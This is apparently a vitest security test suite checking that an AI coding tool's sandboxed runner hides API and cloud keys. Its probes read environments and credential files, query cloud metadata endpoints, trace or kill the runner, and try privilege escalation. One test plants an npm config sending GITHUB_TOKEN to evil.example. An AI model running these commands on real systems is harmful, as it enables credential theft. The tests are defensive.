// Attacks on the runner's keys: what a command can read, ask for or trace, with the keys in the environment next door.
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { type Host, openHost } from "./host.ts";
import { cannotIsolate, whyNot } from "./tool-user.ts";

describe.skipIf(cannotIsolate)(`keys (skipped elsewhere: ${whyNot})`, { timeout: 60_000 }, () => {
  let host: Host;
  beforeAll(async () => {
    host = await openHost();
  });
  afterAll(() => host.close());

  test("the isolation says what it is", () => {
    expect(host.words).toBe("user, no-new-privs, network registries (advisory)");
  });

  test("S1: the environment of a command holds no key", async () => {
    const said = await host.sh("env | base64 -w0; echo; printenv; set; export -p");
    expect(said).toContain("CODY_TOOLS=");
    expect(said).not.toMatch(/ANTHROPIC|GITHUB_|SLACK_|AWS_/);
  });

  test("S2: nor does that of any process which it can read", async () => {
    const said = await host.sh(
      `cat /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/${host.pid}/environ`,
    );
    expect(said).toContain("CODY_TOOLS=");
    expect(said).toContain("Permission denied");
  });

  test("S3: file tools do not read the process table, by whatever path", async () => {
    await host.sh("mkdir -p docs; ln -s /proc/self/environ docs/notes.md; ln -s /proc proc");
    const paths = [
      "/proc/self/environ",
      "../../../../../../proc/self/environ",
      "docs/notes.md",
      "proc/self/environ",
      `/proc/${host.pid}/environ`,
    ];
    for (const path of paths) {
      const { text, isError } = await host.run("read_file", { path });
      expect(isError, path).toBe(true);
      expect(text).toContain("outside the repository");
    }
    const { isError } = await host.run("search_code", { pattern: "KEY|TOKEN", path: "/proc/self/environ" });
    expect(isError).toBe(true);
  });

  test("S5: nothing is stored where tools can read it", async () => {
    const said = await host.sh(
      `cat ~/.git-credentials ~/.netrc ~/.config/gh/hosts.yml /root/.aws/credentials .git/config
      git config -l --show-origin; git remote -v; find / -xdev -name .git-credentials -readable 2>/dev/null | xargs -r cat
      cat ../git/config; ls -la .. ../git ../tools; ls -ld ../git`,
      30,
    );
    expect(said).toContain("../git/config: Permission denied");
    expect(said).toMatch(/cannot open directory '\.\.'/);
    expect(said).toMatch(/drwx------ .* root .*\.\.\/git/);
  });

  test("S6: git knows no credential", async () => {
    const said = await host.sh(
      "printf 'protocol=https\\nhost=github.com\\n\\n' | timeout 5 git credential fill; echo ended",
    );
    expect(said).toContain("ended");
    expect(said).not.toContain("password=");
  });

  test("S7: the machine's role is out of reach: no address of its keys is known, and the proxy does not go there", async () => {
    const said = await host.sh(
      `echo "[$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI$AWS_CONTAINER_CREDENTIALS_FULL_URI]"
      curl -sm2 -w '%{http_code}\\n' http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI
      curl -sm2 -w '%{http_code}\\n' http://169.254.169.254/latest/meta-data/iam/
      curl -sm2 -o /dev/null -w '%{http_code}\\n' https://api.anthropic.com/; echo ended`,
    );
    expect(said).toContain("[]");
    expect(said).toContain("only hosts with a name can be reached");
    expect(await host.denied()).toEqual(
      expect.arrayContaining([
        { host: "169.254.170.2", count: 1 },
        { host: "169.254.169.254", count: 1 },
        { host: "api.anthropic.com", count: 1 },
      ]),
    );
  });

  test("S8: the runner cannot be traced, read, opened or ended", async () => {
    const said = await host.sh(
      `strace -p ${host.pid} & timeout 5 gdb -batch -p ${host.pid} </dev/null; head -c 100 /proc/${host.pid}/mem
      ls -l /proc/${host.pid}/fd; ls -l /proc/${host.pid}/root/; cat /proc/${host.pid}/maps
      kill -9 ${host.pid}; kill -STOP ${host.pid}; kill -9 1; wait`,
      20,
    );
    expect(said.match(/Operation not permitted/g)?.length).toBeGreaterThanOrEqual(3);
    expect(said.match(/Permission denied/g)?.length).toBeGreaterThanOrEqual(3);
    expect(host.isAlive()).toBe(true);
    expect(await host.sh("echo still here")).toContain("still here");
  });

  test("S8: no program gives rights back", async () => {
    const said = await host.sh(
      `su -c id 2>&1 </dev/null | tail -1; sudo -n id; setpriv --reuid=0 id; unshare -Ur id -u
      grep -E 'NoNewPrivs|Cap(Eff|Prm|Bnd|Inh|Amb)' /proc/self/status; id; ulimit -u unlimited; mount -t tmpfs x /mnt`,
    );
    expect(said).toMatch(/NoNewPrivs:\s1/);
    expect(said.match(/Cap\w+:\s0{16}/g)).toHaveLength(5);
    expect(said).not.toMatch(/uid=0|euid=0/);
    expect(said).toMatch(/setresuid failed|setpriv:.*Operation not permitted/);
    expect(said).toMatch(/cannot modify limit/);
  });

  test("S10: an install script sees no key, and a registry's settings find none to put in", async () => {
    const files = {
      ".npmrc": "//evil.example/:_authToken=${GITHUB_TOKEN}\n",
      "package.json": JSON.stringify({
        name: "x",
        version: "1.0.0",
        scripts: { preinstall: "env > out.txt" },
      }),
    };
    for (const [path, content] of Object.entries(files)) await host.run("write_file", { path, content });
    const said = await host.sh(
      "npm install --offline --no-audit --no-fund 2>&1 | tail -5; cat out.txt .npmrc",
      60,
    );
    expect(said).toContain("${GITHUB_TOKEN}");
    expect(said).toMatch(/CODY_TOOLS=|npm: command not found/);
    expect(said).not.toMatch(/^GITHUB_TOKEN=/m);
  });
});

test.skipIf(cannotIsolate)(
  "without a user of their own the tools find the keys, so what is found can be trusted",
  async () => {
    const host = await openHost({ isolated: false });
    onTestFinished(() => host.close());
    expect(host.words).toBe("none, commands on, network registries (advisory)");
    const environment = `cat /proc/${host.pid}/environ`;
    for (const form of [
      "cat",
      "tr '\\0' '\\n' | rev",
      "xxd -p | tr -d '\\n'",
      "base64 -w0",
      "tail -c +2 | base64 -w0",
    ])
      await expect(host.sh(`${environment} | ${form}`), form).rejects.toThrow(/pieces of keys/);
    await expect(host.run("read_file", { path: "/proc/self/environ" })).resolves.toMatchObject({
      isError: true,
    });
  },
);
